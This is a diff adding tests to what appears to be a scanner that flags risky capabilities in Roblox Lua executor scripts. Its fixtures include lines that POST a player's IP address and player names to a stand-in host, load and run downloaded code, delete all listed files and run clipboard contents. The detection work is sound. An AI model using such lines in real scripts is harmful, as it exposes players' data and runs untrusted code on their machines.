@@ -58,6 +58,47 @@ describe('run', () => {
     expect(await detailsOf(code, 'net.exfiltration')).toEqual(['1 request with the player name'])
   })
 
+  test('sees the address of the player and data about other players in what is sent', async () => {
+    const code = `local ip = game:HttpGet("https://api.ipify.org")
+request({Url = "https://a.com", Method = "POST", Body = ip})
+game.Players.PlayerAdded:Connect(function(p) request({Url = "https://a.com", Method = "POST", Body = p.Name}) end)`
+    const expected = ['2 request with the IP address', '3 request with the player name']
+    expect(await detailsOf(code, 'net.exfiltration')).toEqual(expected)
+  })
+
+  test('runs text that is given to run later', async () => {
+    const code = `queue_on_teleport('loadstring(game:HttpGet("https://a.com"))()')
+game:GetService("HttpService"):RequestInternal({Url = "https://b.com"}):Start(function(_, r) loadstring(r.Body)() end)`
+    expect(await detailsOf(code, 'code.remote')).toEqual([
+      '1 loadstring of a download: https://a.com',
+      '2 loadstring of a download: https://b.com',
+    ])
+  })
+
+  test('knows what calls of unknown objects do by their names', async () => {
+    const code = `require(game.ReplicatedStorage.Net):RemoteEvent("x"):FireServer(1)
+game:FindFirstChild("X", true):FireServer(1)
+game.TextChatService.ChatInputBarConfiguration.TargetTextChannel:SendAsync("hi")
+loadstring(script.Source.Value)()
+for _, file in listfiles("x") do delfile(file) end
+loadstring(getclipboard())()
+game:GetService("MarketplaceService"):PerformPurchase(1)
+game:GetService("ExperienceService"):LaunchExperience({placeId = 1})
+game:GetService("AssetService"):LoadAssetAsync(1)
+loadstring(game:HttpGet("https://a.com"))():CreateWindow({KeySystem = true})`
+    const { capabilities } = await sandbox.run(code)
+    const linesOf = (id: CapabilityId) => capabilities.find((one) => one.id === id)?.evidence.map(({ line }) => line)
+    expect(linesOf('game.remote')).toEqual([1, 2])
+    expect(linesOf('game.chat')).toEqual([3])
+    expect(linesOf('code.dynamic')).toEqual([4, 6])
+    expect(linesOf('fs.delete')).toEqual([5])
+    expect(linesOf('user.purchase')).toEqual([7])
+    expect(linesOf('game.teleport')).toEqual([8])
+    expect(linesOf('code.asset')).toEqual([9])
+    expect(linesOf('user.key')).toEqual([10])
+    expect(linesOf('user.input')).toBeUndefined()
+  })
+
   test('answers names that are looked up in _G', async () => {
     const code = 'local name = ("draobpilctes"):reverse()\n_G[name]("x")'
     expect(await detailsOf(code, 'user.clipboard')).toEqual(['2 setclipboard x'])
@@ -76,6 +117,23 @@ describe('run', () => {
   test('names functions of executors without which a script breaks', async () => {
     expect(await detailsOf('print(1)\nsetclipboard("x")', 'needs.executor')).toEqual(['2 setclipboard'])
     expect(await idsOf('if setclipboard then setclipboard("x") end')).toEqual(['user.clipboard'])
+  })
+
+  test('goes on behind functions of executors that are missing', async () => {
+    const lines = [
+      'print(gethui())',
+      'if writefile then writefile("a", "b") end',
+      'local hook = hookfunction',
+      'local answer = syn.request({Url = "https://a.com"})',
+      'hook(print, print)',
+      'pcall(setclipboard, "x")',
+      'task.spawn(function() print(getgc()) end)',
+      'workspace.ChildAdded:Connect(function() delfile("a") end)',
+    ]
+    const names = ['1 gethui', '4 syn.request', '5 hookfunction', '7 getgc', '8 delfile']
+    expect(await detailsOf(lines.join('\n'), 'needs.executor')).toEqual(names)
+    // What is only looked up in the same line is not what is missing.
+    expect(await detailsOf(lines.join(' '), 'needs.executor')).toEqual(names.map((name) => name.replace(/^./, '1')))
   })
 
   test('adds to a card what reading did not find', async () => {
